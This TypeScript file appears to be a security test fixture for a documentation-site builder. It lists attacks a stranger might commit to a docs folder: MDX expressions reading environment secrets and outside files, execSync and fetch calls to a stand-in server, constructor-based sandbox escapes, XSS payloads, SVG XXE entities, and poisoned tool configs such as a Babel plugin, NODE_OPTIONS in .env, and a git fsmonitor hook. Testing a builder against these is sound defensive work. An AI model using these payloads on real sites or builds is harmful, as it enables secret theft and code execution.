/** Files and addresses outside that attempts try to reach. */
export interface Reach {
  /** Absolute path of a file outside of the folder, which holds `secret-of-a-file`. */
  secret: string;
  /** Absolute path of a file that something would have written. */
  canary(name: string): string;
  /** Address of a server that takes note of who asks. */
  server: string;
}

/** Something that a stranger writes into a documentation folder. */
export interface Attempt {
  name: string;
  /** Files by path; a page named `*.mdx` or `*.md` is what is told of unless `told` says otherwise. */
  files: Readonly<Record<string, string>>;
  /** Symbolic links, to absolute paths. */
  links?: Readonly<Record<string, string>>;
  /** Keys of docs.json. */
  config?: Readonly<Record<string, unknown>>;
  /** Of what a diagnostic tells; `none` where what is written has no effect and need not be told of. */
  told?: string;
}

const page = (text: string): string => `---\ntitle: A page\n---\n\nWords before.\n\n${text}\n\nWords behind.\n`;

/** Text that would show that code ran, or was published: in no file of the site. */
const mark = 'evil-mark';
const run = `alert(/${mark}/)`;

/** Attempts that are read as values and can do no harm. */
const harmless = new Set([
  'the prototype of a value',
  'the constructor of a known value',
  'an address that is code, put together',
  'a class that loads',
]);

export function attempts({ secret, canary, server }: Reach): Attempt[] {
  const write = (name: string): string => `require('fs').writeFileSync(${JSON.stringify(canary(name))}, 'x')`;
  const writeModule = (name: string): string =>
    `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(canary(name))}, 'x');\nexport default {};\n`;
  const on = (name: string, text: string, files: Record<string, string> = {}): Attempt => ({
    name,
    files: { [`${name.replace(/\W+/g, '-')}.mdx`]: page(text), ...files },
  });

  const expressions: [string, string][] = [
    ['the environment', '{process.env.TRELLIS_SECRET}'],
    ['the environment by brackets', "{process['env']['TRELLIS_SECRET']}"],
    ['the environment of globalThis', '{globalThis.process.env.TRELLIS_SECRET}'],
    ['the environment in a template', '{`${process.env.TRELLIS_SECRET}`}'],
    ['the environment in an attribute', '<Card title={process.env.TRELLIS_SECRET}>Words.</Card>'],
    ['the environment in a list', '<Card title="x" tags={[process.env.TRELLIS_SECRET]} />'],
    ['the environment in an object', '<div style={{ color: process.env.TRELLIS_SECRET }}>Words.</div>'],
    ['the environment in a spread', '<div {...process.env} />'],
    ['the environment in an export', 'export const secret = process.env.TRELLIS_SECRET;\n\n{secret}'],
    [
      'the environment in a second export',
      'export const a = { b: 1 };\nexport const secret = process.env;\n\n{secret.TRELLIS_SECRET}',
    ],
    ['the environment behind a comment', '{/* } */ process.env.TRELLIS_SECRET}'],
    ['the environment behind a line', '{"a"\n// b\n+ process.env.TRELLIS_SECRET}'],
    ['the constructor of a value', `{"".constructor.constructor("return process.env.TRELLIS_SECRET")()}`],
    [
      'the constructor of a known value',
      'export const a = { b: "c" };\n\n{a.constructor.constructor("return process")().env.TRELLIS_SECRET}',
    ],
    ['the constructor of user', '{user.constructor.constructor("return process.env.TRELLIS_SECRET")()}'],
    [
      'the prototype of a value',
      'export const a = { __proto__: { toString: 1 }, b: 2 };\n\n{a.__proto__.constructor.name}',
    ],
    ['a file', `{process.getBuiltinModule('fs').readFileSync(${JSON.stringify(secret)}, 'utf8')}`],
    ['a file by import', `{await import('node:fs').then((fs) => fs.readFileSync(${JSON.stringify(secret)}, 'utf8'))}`],
    [
      'a file that is written',
      `{process.getBuiltinModule('fs').writeFileSync(${JSON.stringify(canary('expression'))}, 'x')}`,
    ],
    ['a process', `{process.getBuiltinModule('child_process').execSync('touch ${canary('process')}')}`],
    ['a request', `{fetch('${server}/expression')}`],
    ['a loop without end', '{(() => { for (;;); })()}'],
    ['a function in an attribute', `<Card title={(() => '${mark}')()}>Words.</Card>`],
    ['a function that is called when the page is drawn', `<Card title="x">{() => process.env.TRELLIS_SECRET}</Card>`],
    ['a component of the page', `export const Evil = () => <b>${mark}</b>;\n\n<Evil />`],
    ['a default export', `export default function ({ children }) { return '${mark}'; }`],
    ['an export of another file', `export * from '${secret}';`],
    ['an export with side effects', `export const a = (${write('export')}, 1);`],
    ['a statement among imports', `import x from '/data.json';\n${write('statement')};`],
    ['an element that is code', '<process.exit />'],
    ['an element of globalThis', '<globalThis.process.exit />'],
    ['an element with a tagged template', '{String.raw`${process.env.TRELLIS_SECRET}`}'],
    ['an escaped name', '{\\u0070rocess.env.TRELLIS_SECRET}'],
    ['an assignment', 'export let a = 1;\n\n{a = process.env.TRELLIS_SECRET}'],
    ['a class', `export class A { static { ${write('class')} } }`],
    ['React', `import React from 'react';\n\n{React.createElement('script', {}, '${run}')}`],
    ['a node module', `import { readFileSync } from 'node:fs';\n\n{readFileSync(${JSON.stringify(secret)}, 'utf8')}`],
  ];

  const elements: [string, string][] = [
    ['a script', `<script>{\`${run}\`}</script>`],
    ['a script with text', `<script>"${mark}"</script>`],
    ['a script of another site', `<script src="${server}/${mark}.js" />`],
    ['a script in a drawing', `<svg><script>"${mark}"</script></svg>`],
    ['foreign objects', `<svg><foreignObject><iframe srcDoc="${mark}" /></foreignObject></svg>`],
    ['a handler', `<img src="/x.png" onerror="${run}" />`],
    ['a handler as React has it', `<button onClick={() => ${run}}>Words</button>`],
    ['a handler in a text', `<div onMouseOver="${run}">Words</div>`],
    ['a handler of a component', `<Card title="x" onClick={() => ${run}} />`],
    ['a handler of a heading', `## Words {onclick=${mark}}`],
    ['raw HTML', `<div set:html="<script>${mark}</script>" />`],
    ['raw HTML as React has it', `<div dangerouslySetInnerHTML={{ __html: '<script>${mark}</script>' }} />`],
    ['raw HTML of a component', `<Card title="x" dangerouslySetInnerHTML={{ __html: '${mark}' }} />`],
    ['a frame with a text', `<iframe srcdoc="<script>${mark}</script>" />`],
    ['an address that is code', `<a href="javascript:'${mark}'">Words</a>`],
    ['an address that is code, escaped', `<a href="java&#115;cript:'${mark}'">Words</a>`],
    ['an address that is code, parted', `<a href={"java\\tscript:'${mark}'"}>Words</a>`],
    ['an address that is code, in Markdown', `[Words](javascript:${mark})`],
    ['an address that is code, defined', `[Words][a]\n\n[a]: javascript:${mark}`],
    ['an address that is code, of a card', `<Card title="x" href="javascript:${mark}" />`],
    ['an address that is code, in a constant', `export const to = "javascript:${mark}";\n\n<a href={to}>Words</a>`],
    [
      'an address that is code, put together',
      `export const a = "java";\n\n<a href={\`\${a}script:${mark}\`}>Words</a>`,
    ],
    ['an address with contents', `<iframe src="data:text/html,<script>${mark}</script>" />`],
    [
      'a drawing that animates an address',
      `<svg><a><animate attributeName="href" values="javascript:${mark}" /></a></svg>`,
    ],
    ['a style that loads', `<div style="background: url(${server}/${mark})">Words</div>`],
    ['a style that loads, escaped', `<div style="background: \\75 rl(${server}/${mark})">Words</div>`],
    ['a style that loads, as an object', `<div style={{ backgroundImage: "url(${server}/${mark})" }}>Words</div>`],
    ['a style element', `<style>{\`@import "${server}/${mark}.css";\`}</style>`],
    ['a class that loads', `<div className="bg-[url(${server}/classmark)]">Words</div>`],
    ['a linked style sheet', `<link rel="stylesheet" href="${server}/${mark}.css" />`],
    ['a base', `<base href="${server}/${mark}/" />`],
    ['a refresh', `<meta http-equiv="refresh" content="0; url=${server}/${mark}" />`],
    ['a form', `<form action="${server}/${mark}"><button>Words</button></form>`],
    ['an object', `<object data="${server}/${mark}" />`],
    ['an element of Trellis', `<trellis-part data-part="${mark}">Words</trellis-part>`],
    ['a template', `<template><script>"${mark}"</script></template>`],
  ];

  return [
    ...expressions.map(([name, source]) => ({
      ...on(`expression ${name}`, source),
      ...(harmless.has(name) && { told: 'none' }),
    })),
    ...elements.map(([name, source]) => ({
      ...on(`element ${name}`, source),
      ...(harmless.has(name) && { told: 'none' }),
    })),
    on('component file', "import { Evil } from '/snippets/evil.jsx';\n\n<Evil />", {
      'snippets/evil.jsx': `${write('component')};\nexport const Evil = () => <b>${mark}</b>;\n`,
    }),
    on('component file without its ending', "import { Evil } from '/snippets/other';\n\n<Evil />", {
      'snippets/other.tsx': `${write('typed')};\nexport const Evil = () => <b>${mark}</b>;\n`,
    }),
    on('component with hooks', "import { Evil } from '/snippets/hooks.jsx';\n\n<Evil />", {
      'snippets/hooks.jsx': `export const Evil = () => { const [a] = useState('${mark}'); return <b onClick={() => ${run}}>{a}</b>; };\n`,
    }),
    {
      ...on('snippet that runs', "import Evil from '/snippets/evil.mdx';\n\n<Evil />", {
        'snippets/evil.mdx': `{process.env.TRELLIS_SECRET}\n\n<b onClick={() => ${run}}>Words</b>\n`,
      }),
      told: 'snippets/evil.mdx',
    },
    {
      ...on('snippet that reads its scope', 'import Evil from \'/snippets/scope.mdx\';\n\n<Evil name="a" />', {
        'snippets/scope.mdx': '{name} {process} {components.Card} {props.constructor.name} {trellisKnown}\n',
      }),
      told: 'none',
    },
    {
      ...on('snippet that doubles', "import A from '/snippets/d0.mdx';\n\n<A />", {
        ...Object.fromEntries(
          Array.from({ length: 24 }, (_, index) => [
            `snippets/d${index}.mdx`,
            `import A from '/snippets/d${index + 1}.mdx';\n\n<A />\n\n<A />\n`,
          ]),
        ),
        'snippets/d24.mdx': 'Words that are many.\n',
      }),
    },
    on(
      'element named like an import',
      `import script from '/snippets/words.mdx';\n\n<script src="${server}/${mark}.js"></script>`,
      { 'snippets/words.mdx': 'Words.' },
    ),
    on('snippet outside', `import Evil from '../above.mdx';\n\n<Evil />`),
    on('snippet by an absolute path', `import Evil from '${secret}';\n\n{Evil}`),
    {
      name: 'data that is code',
      files: {
        'data-that-is-code.mdx': page("import links from '/links.json';\n\n<a href={links.to}>Words</a>"),
        'links.json': JSON.stringify({ to: `javascript:${mark}` }),
      },
      told: 'none',
    },
    {
      name: 'Markdown with HTML',
      files: { 'html.md': `# Words\n\n<div onclick="alert('as-text')">a <script>'as-text'</script> <b\n` },
    },
    { name: 'a large page', files: { 'large.mdx': page('Words. '.repeat(100_000)) } },
    {
      name: 'a description with HTML',
      files: { 'described.mdx': `---\ntitle: Words\ndescription: '**a** <script>"${mark}"</script>'\n---\n\nWords.\n` },
      told: 'none',
    },
    {
      name: 'an address in frontmatter',
      files: { 'led.mdx': `---\ntitle: Words\nurl: 'javascript:${mark}'\n---\n\nWords.\n` },
    },
    // Files beside the pages.
    { name: 'a script of every page', files: { 'every.js': run }, told: 'every.js' },
    {
      name: 'a style sheet that loads',
      files: { 'loads.css': `body { background: url(${server}/${mark}) }` },
      told: 'loads.css',
    },
    {
      name: 'a style sheet that imports',
      files: { 'imports.css': `@import "${server}/${mark}.css";` },
      told: 'imports.css',
    },
    {
      name: 'a style sheet that hides what it does',
      files: { 'hides.css': `body { background: u\\72l(${server}/${mark}) }` },
      told: 'hides.css',
    },
    {
      name: 'a page of HTML',
      files: { 'evil.html': `<script>"${mark}"</script>`, 'names-it.mdx': page('[Words](/evil.html)') },
      told: 'evil.html',
    },
    {
      name: 'a drawing with a script',
      files: { 'images/script.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>"${mark}"</script></svg>` },
      told: 'images/script.svg',
    },
    {
      name: 'a drawing with a handler',
      files: { 'images/handler.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="'${mark}'"/>` },
      told: 'images/handler.svg',
    },
    {
      name: 'a drawing that reads a file',
      files: {
        'images/reads.svg': `<svg xmlns="http://www.w3.org/2000/svg"><image href="file://${secret}?${mark}"/></svg>`,
      },
      told: 'images/reads.svg',
    },
    {
      name: 'a drawing with an entity',
      files: {
        'images/entity.svg': `<!DOCTYPE svg [<!ENTITY a SYSTEM "file://${secret}?${mark}">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>`,
      },
      told: 'images/entity.svg',
    },
    { name: 'headers of a host', files: { _headers: `/*\n  X-Evil: ${mark}\n` }, told: '_headers' },
    { name: 'a worker of a host', files: { '_worker.js': run }, told: '_worker.js' },
    { name: 'a page that is a link', files: {}, links: { 'linked.mdx': secret }, told: 'linked.mdx' },
    { name: 'a picture that is a link', files: {}, links: { 'images/linked.png': secret }, told: 'images/linked.png' },
    // Files that tools look for.
    {
      name: 'settings of PostCSS',
      files: { 'postcss.config.cjs': `${write('postcss')};\nmodule.exports = {};\n` },
      told: 'none',
    },
    { name: 'settings of Astro', files: { 'astro.config.mjs': writeModule('astro') }, told: 'none' },
    { name: 'settings of Vite', files: { 'vite.config.mjs': writeModule('vite') }, told: 'none' },
    { name: 'settings of Tailwind', files: { 'tailwind.config.mjs': writeModule('tailwind') }, told: 'none' },
    {
      name: 'settings of Babel',
      files: { '.babelrc': JSON.stringify({ plugins: ['./evil-plugin.cjs'] }), 'evil-plugin.cjs': write('babel') },
      told: 'none',
    },
    {
      name: 'settings of TypeScript',
      files: {
        'tsconfig.json': JSON.stringify({ compilerOptions: { baseUrl: '.', paths: { '*': ['./evil-path.mjs'] } } }),
        'evil-path.mjs': writeModule('paths'),
      },
      told: 'none',
    },
    {
      name: 'a part of the frame',
      files: {
        'trellis/Footer.astro': `---\n${writeModule('part').replace(/export.*/, 'export const version = 1;')}---\n<footer>${mark}</footer>\n`,
      },
      told: 'trellis/Footer.astro',
    },
    { name: 'settings of Pagefind', files: { 'pagefind.yml': `logfile: ${canary('pagefind')}\n` }, told: 'none' },
    {
      name: 'a list of browsers',
      files: {
        '.browserslistrc': 'extends browserslist-config-evil\n',
        'node_modules/browserslist-config-evil/index.js': write('browsers'),
      },
      told: 'none',
    },
    {
      name: 'a package that tools look for',
      files: {
        'node_modules/sharp/index.js': write('sharp'),
        'node_modules/sharp/package.json': '{"name":"sharp","version":"9.9.9","main":"index.js"}',
        'node_modules/astro/index.js': write('astro-package'),
        'node_modules/astro/package.json': '{"name":"astro","version":"99.0.0","main":"index.js"}',
      },
      told: 'none',
    },
    {
      name: 'variables of the environment',
      files: { '.env': `NODE_OPTIONS=--require=./evil-plugin.cjs\nPUBLIC_EVIL=${mark}\n` },
      told: 'none',
    },
    {
      name: 'a repository without files',
      files: {
        HEAD: 'ref: refs/heads/main\n',
        'objects/.keep': '',
        'refs/heads/.keep': '',
        config: `[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch ${canary('git')}; false"\n`,
      },
      told: 'none',
    },
    {
      name: 'an integration in the cache',
      files: {
        '.trellis/project/src/pages/evil.astro': `---\nimport fs from 'node:fs';\nfs.writeFileSync(${JSON.stringify(canary('cache'))}, 'x');\n---\n${mark}\n`,
        '.trellis/project/public/evil.js': run,
      },
      told: 'none',
    },
    {
      name: 'texts in the cache',
      files: { '.trellis/texts.json': `texts 4\n["a",{"markdown":"${mark}","sections":[]}]\n` },
      told: 'none',
    },
    {
      name: 'a claim in the cache',
      files: { '.trellis/runs/1073741824-0/placing.json': JSON.stringify({ output: `${secret}-folder`, files: [] }) },
      told: 'none',
    },
  ];
}

/** Keys of docs.json that reach for more than the folder, and what a diagnostic says of each. */
export function settings({ server, secret }: Reach): { config: Record<string, unknown>; told: readonly RegExp[] } {
  return {
    config: {
      analytics: {
        gtm: { tagId: 'GTM-EVIL' },
        plausible: { domain: 'a.example', server: `${server.replace('http://', '')}` },
      },
      integrations: { intercom: 'evilmark' },
      openapi: [`${server}/openapi.json`, '../above.yaml', 'own.yaml'],
      topbarCtaButton: { type: 'github', url: 'https://github.com/evil/mark' },
      logo: '../above.svg',
      font: { family: `Evil</style><script>"${mark}"</script>`, url: `${server}/${mark}.woff2` },
      trellis: {
        scripts: ['/every.js', `${server}/${mark}.js`],
        stylesheets: [`${server}/${mark}.css`, '/loads.css'],
        search: undefined,
        siteUrl: 'https://docs.example.com',
        contentSecurityPolicy: { 'script-src': [`https://${mark}.example`, "'unsafe-inline'"] },
      },
      redirects: [{ source: '/../../evil', destination: `/${mark}` }],
      background: undefined,
      metadata: { [`"><script>${'x'}</script>`]: 'x', 'og:image': secret },
    },
    told: [
      /`gtm` is a service/,
      /`plausible` is a service/,
      /`intercom` is a service/,
      /openapi\.json` lies outside/,
      /above\.yaml` lies outside/,
      /every\.js` is a script/,
      /evil-mark\.js` is a script/,
      /cannot extend the content security policy/,
      /evil-mark\.css` is a style sheet of another site/,
      /evil-mark\.woff2` is a font of another site/,
      /above\.svg/,
      /leads out of the site/,
    ],
  };
}

/** Settings that no message reports. */
export function untoldSettings(reach: Reach, messages: readonly string[]): RegExp[] {
  return settings(reach).told.filter((wanted) => !messages.some((message) => wanted.test(message)));
}
